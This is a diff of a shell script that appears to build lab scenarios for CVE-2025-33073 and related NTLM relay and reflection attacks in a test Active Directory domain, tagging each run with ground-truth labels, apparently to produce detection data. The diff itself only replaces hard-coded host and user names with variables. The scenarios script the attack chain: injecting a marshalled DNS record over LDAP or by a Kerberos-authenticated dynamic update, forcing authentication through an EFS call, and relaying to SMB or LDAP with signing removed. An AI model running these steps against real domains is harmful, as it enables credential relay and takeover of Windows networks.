@@ -61,44 +61,44 @@ scenario_reflection_smb_ldap_dc_stripped() {
 scenario_marshalled_reflection() {
   callback_with libsmbclient
   record marshalled_reflection
-  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" alice dnsnode "srv1$MARSHALLED" $EVIL
+  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" $ALICE dnsnode "$SRV_NAME$MARSHALLED" $EVIL
   relay_on smb -t "smb://$SRV"
-  efs_call "\\\\srv1$MARSHALLED\\share\\file.txt"
+  efs_call "\\\\$SRV_NAME$MARSHALLED\\share\\file.txt"
   sleep 3
   truth "${REFLECTED[@]}" "${COERCED_SMB[@]}" expect=marshalled-name:ldap expect=marshalled-name:dns \
     expect=marshalled-name:rpc expect=marshalled-name:smb expect=ldap-write:dnsnode expect=follow-up:adidns \
     expect=reflection:smb-smb tools="$IMPACKET_CALL, ldap3 2.9.1" \
     notes="CVE-2025-33073 as far as it can be shown without Windows: the name added over LDAP, given in the call, asked for in DNS, used as the server's name in the tree connect, and the logon reflected."
-  forget_name "srv1$MARSHALLED" $EVIL
+  forget_name "$SRV_NAME$MARSHALLED" $EVIL
 }
 
 scenario_marshalled_update() {
   callback_with libsmbclient
   record marshalled_update
-  secure_update "files1$MARSHALLED" $DROP
+  secure_update "$FILES_NAME$MARSHALLED" $DROP
   listen drop $DROP
-  efs_call "\\\\files1$MARSHALLED\\share\\file.txt"
+  efs_call "\\\\$FILES_NAME$MARSHALLED\\share\\file.txt"
   truth malicious=yes attacker=$EVIL victim=$SRV listener=$DROP family=relay "${COERCED_SMB[@]}" expect=marshalled-name:dns \
     expect=marshalled-name:rpc expect=marshalled-name:smb expect=follow-up:adidns expect=rogue-server:smbserver \
     tools="$IMPACKET_CALL, nsupdate $(nsupdate -V 2>&1 | awk '{print $2; exit}')" \
     notes="The name is added by a secure dynamic update with a user's ticket. The listener hands out a fixed challenge."
-  forget_name "files1$MARSHALLED" $DROP
+  forget_name "$FILES_NAME$MARSHALLED" $DROP
 }
 
-# secure_update NAME ADDRESS: a dynamic update from the attacker's host with alice's ticket
+# secure_update NAME ADDRESS: a dynamic update from the attacker's host with $ALICE's ticket
 secure_update() {
   printf 'server %s\nzone %s\nupdate add %s.%s 180 A %s\nsend\n' \
-    "dc1.${REALM,,}" "${REALM,,}" "$1" "${REALM,,}" "$2" > "$RUN/update"
-  in_host evil bash -c "echo '$ALICE_PW' | kinit -c '$RUN/evil.ccache' alice@$REALM" > /dev/null 2>&1 || true
+    "$DC_FQDN" "$DNS_DOMAIN" "$1" "$DNS_DOMAIN" "$2" > "$RUN/update"
+  in_host evil bash -c "echo '$ALICE_PW' | kinit -c '$RUN/evil.ccache' $ALICE@$REALM" > /dev/null 2>&1 || true
   quietly_on evil env KRB5CCNAME="$RUN/evil.ccache" nsupdate -g "$RUN/update"
 }
 
 scenario_marshalled_lower_case() {
   local name=localhost${MARSHALLED,,}
   record marshalled_lower_case
-  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" alice dnsnode "localhost$MARSHALLED" $EVIL
+  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" $ALICE dnsnode "localhost$MARSHALLED" $EVIL
   relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}" --remove-sign-seal
-  quietly_on srv1 nslookup "$name.${REALM,,}" $DC
+  quietly_on srv1 nslookup "$name.$DNS_DOMAIN" $DC
   machine_impacket "$EVIL"
   sleep 3
   truth "${COERCED_HERE[@]}" target=$DC family=relay expect=marshalled-name:ldap expect=marshalled-name:dns \
@@ -110,10 +110,10 @@ scenario_marshalled_lower_case() {
 
 scenario_marshalled_ldap_only() {
   record marshalled_ldap_only
-  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" alice dnsnode "dc1$MARSHALLED" $EVIL
-  quietly_on evil nslookup "dc1$MARSHALLED.${REALM,,}" $DC
+  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" $ALICE dnsnode "$DC_NAME$MARSHALLED" $EVIL
+  quietly_on evil nslookup "$DC_NAME$MARSHALLED.$DNS_DOMAIN" $DC
   truth malicious=yes attacker=$EVIL family=relay expect=marshalled-name:ldap expect=marshalled-name:dns \
     expect=ldap-write:dnsnode expect=follow-up:adidns tools="ldap3 2.9.1" \
     notes="Only the preparation: the name is added and looked up to see that it is there."
-  forget_name "dc1$MARSHALLED" $EVIL
+  forget_name "$DC_NAME$MARSHALLED" $EVIL
 }
